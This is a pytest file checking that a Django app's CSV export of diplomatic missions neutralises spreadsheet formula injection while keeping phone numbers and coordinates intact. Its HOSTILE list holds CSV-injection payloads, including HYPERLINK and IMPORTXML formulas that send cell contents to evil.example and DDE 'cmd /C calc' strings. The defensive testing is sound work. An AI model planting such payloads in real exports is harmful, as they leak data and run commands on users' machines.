"""The CSV export opens safely in a spreadsheet: no cell starts a formula (OWASP's CSV
injection), while phone numbers keep their "+" and numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client

from chancery.directory.models import Mission
from chancery.exports.serializers import FORMULA_STARTS, spreadsheet_cell

from .helpers import BELGIAN_EMBASSY_IN_RUSSIA, GERMAN_EMBASSY_IN_RUSSIA, body

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '  =IMPORTXML(CONCAT("http://evil.example/?", A2), "//a")',
    "=1+1",
]


def _rows(client: Client, query: str) -> list[dict[str, str]]:
    response = client.get(f"/exports/missions.csv{query}")
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(body(response).decode("utf-8"), newline="")))


def _starts_a_formula(cell: str) -> bool:
    return cell.lstrip(" ").startswith(FORMULA_STARTS)


def _plant(mission: Mission, hostile: str) -> None:
    mission.name = hostile
    mission.city = hostile
    mission.city_source_label = hostile
    mission.address = hostile
    mission.twitter = hostile
    mission.save()


def _assert_defused(rows: list[dict[str, str]], planted: dict[str, str]) -> None:
    for qid, hostile in planted.items():
        row = next(r for r in rows if r["QID"].endswith(qid))
        for column in ("name", "city", "town", "address", "twitter"):
            assert row[column] == f"'{hostile}", (qid, column)
    dangerous = [
        (r["QID"], column, cell)
        for r in rows
        for column, cell in r.items()
        if _starts_a_formula(cell) and spreadsheet_cell(cell) != cell
    ]
    assert dangerous == []


@pytest.mark.parametrize("hostile", HOSTILE)
def test_no_cell_starts_a_formula(client: Client, hostile: str) -> None:
    mission = Mission.objects.get(wikidata_id=GERMAN_EMBASSY_IN_RUSSIA)
    _plant(mission, hostile)
    _assert_defused(_rows(client, "?host=RU"), {GERMAN_EMBASSY_IN_RUSSIA: hostile})


def test_no_cell_of_the_whole_export_starts_a_formula(client: Client) -> None:
    """Every hostile value at once, each in another mission, through the whole file (which
    is written apart from the filtered stream)."""
    missions = Mission.objects.filter(host_country__iso_alpha2="RU").order_by("wikidata_id")
    planted = {}
    for mission, hostile in zip(missions, HOSTILE, strict=False):
        _plant(mission, hostile)
        planted[mission.wikidata_id] = hostile
    assert len(planted) == len(HOSTILE)
    _assert_defused(_rows(client, ""), planted)


def test_phone_numbers_keep_their_plus_and_coordinates_stay_numbers(client: Client) -> None:
    rows = _rows(client, "?host=RU")
    belgian = next(r for r in rows if r["QID"].endswith(BELGIAN_EMBASSY_IN_RUSSIA))
    mission = Mission.objects.get(wikidata_id=BELGIAN_EMBASSY_IN_RUSSIA)
    assert belgian["phones_e164"] == "|".join(p["e164"] for p in mission.phones if p["e164"])
    assert belgian["phones_e164"].startswith("+7")
    assert belgian["phone"] == "|".join(p["raw"] for p in mission.phones)
    assert not belgian["phone"].startswith("'")
    southern = _rows(client, "?host=AR")
    assert any(r["latitude"].startswith("-3") for r in southern)  # Buenos Aires, unprefixed


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("+49 30 1234567", "+49 30 1234567"),
        ("+4930123456|+4930456789", "+4930123456|+4930456789"),
        ("-34.6", "-34.6"),
        (-34.6, -34.6),
        ("", ""),
        ("Embassy of Germany", "Embassy of Germany"),
        ("a=b", "a=b"),
        ("=A1", "'=A1"),
        ("+1-800-CALL-NOW", "'+1-800-CALL-NOW"),
        ("@embassy", "'@embassy"),
        ("-", "-"),
        ("\t42", "'\t42"),
        ("\tx", "'\tx"),
    ],
)
def test_spreadsheet_cell(value: object, expected: object) -> None:
    assert spreadsheet_cell(value) == expected
